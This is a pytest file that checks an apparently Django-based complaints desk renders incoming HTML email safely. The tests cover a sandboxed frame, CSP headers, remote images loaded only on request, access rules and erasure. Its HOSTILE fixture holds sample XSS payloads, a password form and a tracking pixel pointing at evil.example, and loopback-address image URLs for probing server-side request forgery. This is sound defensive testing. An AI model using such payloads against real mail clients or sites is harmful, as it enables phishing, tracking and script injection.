"""A mail as its sender formatted it: shown in a frame in which nothing runs, and nobody is asked unbidden."""

from __future__ import annotations

import re
from base64 import b64decode
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from builders import after, make_case
from cast import Cast
from mails import acting, multipart, part
from ombud.cases.keeping import erasure
from ombud.channels.mail import pictures
from ombud.channels.mail.reading import read
from ombud.correspondence import attaching, taking_in
from ombud.correspondence.models import Account, Message
from ombud.correspondence.taking_in import Incoming
from ombud.privacy import outgoing

pytestmark = pytest.mark.django_db
SignIn = Callable[[str], Client]
PNG = b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
HOSTILE = """<html><head><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">
<link rel=stylesheet href="https://evil.example/a.css"><style>body{background:url(https://evil.example/b)}</style>
<script>alert(1)</script></head><body onload=alert(2) style="background:url(https://evil.example/c)">
<svg onload=alert(3)><script>alert(4)</script></svg><form action="https://evil.example"><input name=password></form>
<iframe src="https://evil.example"></iframe><a href="javascript:alert(5)">here</a>
<p>The kettle &lt;img src="cid:box"&gt; leaks.</p><img src="cid:box" alt="box"><img src="cid:svg" alt="drawn">
<img src="http://evil.example/seen.gif?who=li&amp;n=1" alt="far" onerror=alert(6)></body></html>"""


@pytest.fixture(autouse=True)
def mailbox(cast: Cast, media: Path) -> Account:
    return Account.objects.create(
        key="box", kind="mail", title="Box", address="complaints@example.com", policy="customer-complaints"
    )


def come(mailbox: Account, page: str = HOSTILE) -> Message:
    raw = multipart(
        part("text/html; charset=utf-8", page),
        part("image/png", PNG, "Content-ID: <box>", "Content-Disposition: inline; filename=box.png"),
        part("image/svg+xml", "<svg onload=alert(1)/>", "Content-ID: <svg>", "Content-Disposition: inline"),
        kind="related",
    )
    seen = read(raw)
    incoming = Incoming(
        way=Message.Way.MAIL, external_id=page[:20] + seen.message_id, arrived_at=after(1), address="li@example.org",
        subject=seen.subject, text=seen.text, html=seen.html, original=raw,
    )  # fmt: skip
    row = taking_in.take_in(mailbox, incoming, now=after(2))
    assert row is not None
    Message.objects.filter(pk=row.pk).update(state=Message.State.WAITING)
    row.refresh_from_db()
    return row


def frame_of(row: Message) -> str:
    return f"/desk/inbox/{row.pk}/frame/"


@pytest.fixture
def called(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Let every address lead to a picture, and return which were called."""
    found: list[str] = []

    def picture(url: str, **_more: Any) -> outgoing.Answer:
        found.append(url)
        return outgoing.Answer(status=200, body=PNG)

    monkeypatch.setattr(outgoing, "get", picture)
    return found


def test_a_hostile_page_does_nothing_and_asks_nobody(sign_in: SignIn, mailbox: Account, called: list[str]) -> None:
    answer = sign_in("lin").get(frame_of(come(mailbox)))
    page = answer.content.decode()
    body = page[page.index("<body") :]
    assert not acting(body)
    assert "alert(" not in page
    assert "evil.example" not in re.sub(r'data-remote-src="[^"]*"', "", body)
    assert not called
    rules = answer["Content-Security-Policy"]
    for rule in (
        "sandbox allow-popups",
        "default-src 'none'",
        "img-src data:",
        "form-action 'none'",
        "base-uri 'none'",
    ):
        assert rule in rules
    assert not re.search(r"allow-scripts|allow-same-origin|allow-forms|script-src|https", rules)
    assert "frame-ancestors 'self'" in rules
    assert answer["X-Frame-Options"] == "SAMEORIGIN"
    assert answer["Cache-Control"] == "private, no-store"


def test_pictures_that_came_along_are_shown_and_drawings_that_could_run_are_not(
    sign_in: SignIn, mailbox: Account
) -> None:
    page = sign_in("lin").get(frame_of(come(mailbox))).content.decode()
    assert '<img alt="box" src="data:image/png;base64,iVBOR' in page or 'src="data:image/png;base64,iVBOR' in page
    assert "image/svg" not in page
    assert '<p>The kettle &lt;img src="cid:box"&gt; leaks.</p>' in page  # a text stays a text


def test_pictures_from_afar_are_fetched_by_us_and_only_when_somebody_says_so(
    sign_in: SignIn, mailbox: Account, called: list[str]
) -> None:
    row, lin = come(mailbox), sign_in("lin")
    around = lin.get(f"/desk/inbox/{row.pk}/formatted/").content.decode()
    assert "Show remote images" in around
    fragment = lin.get(f"/desk/inbox/{row.pk}/formatted/", headers={"hx-request": "true"}).content.decode()
    assert fragment.strip().startswith('<div class="formatted'), "a script takes in no whole page"
    assert re.search(r'<iframe[^>]* sandbox="allow-popups allow-popups-to-escape-sandbox"', around)
    lin.get(frame_of(row) + "?remote=1")
    assert not called
    page = lin.post(frame_of(row)).content.decode()
    assert called == ["https://evil.example/seen.gif?who=li&n=1"]
    assert page.count("data:image/png") == 2
    assert "evil.example/seen" not in page
    plain = come(mailbox, "<p>Nothing from afar</p>")
    assert "Show remote images" not in lin.get(f"/desk/inbox/{plain.pk}/formatted/").content.decode()


def test_what_comes_from_afar_and_is_no_picture_is_not_shown(
    sign_in: SignIn, mailbox: Account, monkeypatch: pytest.MonkeyPatch
) -> None:
    row, lin = come(mailbox), sign_in("lin")
    for answer in (
        outgoing.Answer(status=404, body=PNG),
        outgoing.Answer(status=200, body=b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        outgoing.Answer(status=200, body=PNG + b"0" * 3_000_000),
    ):
        monkeypatch.setattr(outgoing, "get", lambda _url, answer=answer, **_more: answer)
        assert lin.post(frame_of(row)).content.decode().count('src="data:') == 1
    monkeypatch.undo()
    private = come(mailbox, '<img src="https://127.0.0.1/a.png"><img src="http://[::1]/b.png">')
    assert "data:image" not in lin.post(frame_of(private)).content.decode()


def test_only_who_may_read_a_message_sees_its_page(cast: Cast, sign_in: SignIn, mailbox: Account) -> None:
    row = come(mailbox)
    for who in ("chen", "ai", "nobody"):
        for tail in ("formatted", "frame"):
            assert sign_in(who).get(f"/desk/inbox/{row.pk}/{tail}/").status_code == 404
    case = make_case().case
    attaching.attach(row, case, now=after(3), by=cast.lin)
    base = f"/desk/cases/{case.reference}/messages/{row.pk}/"
    page = sign_in("lin").get(f"/desk/cases/{case.reference}/").content.decode()
    assert f"{base}formatted/" in page
    for tail in ("formatted/", "frame/"):
        assert sign_in("lin").get(base + tail).status_code == 200
        assert sign_in("nobody").get(base + tail).status_code == 404
        assert sign_in("deng").get(base + tail).status_code == 404


def test_an_erased_message_has_no_page(cast: Cast, sign_in: SignIn, mailbox: Account) -> None:
    case, row = make_case().case, come(mailbox)
    attaching.attach(row, case, now=after(3), by=cast.lin)
    erasure.erase(case.complainant, now=after(5), by=cast.mo)
    address = f"/desk/cases/{case.reference}/messages/{row.pk}/formatted/"
    assert sign_in("lin").get(address).status_code == 404
    assert "formatted/" not in sign_in("lin").get(f"/desk/cases/{case.reference}/").content.decode()


def test_a_picture_of_one_page_is_put_nowhere_else() -> None:
    page = '<img alt="src" src="cid:a%40b"><img src="cid:c"><img alt="x" data-remote-src="https://x/?a=1&amp;b=2">'
    found = pictures.filled(page, enclosed={"a@b": "data:1"}, remote={"https://x/?a=1&b=2": "data:2"})
    assert found == '<img alt="src" src="data:1"><img><img alt="x" src="data:2">'
    assert pictures.remote_of(page) == ["https://x/?a=1&b=2"]
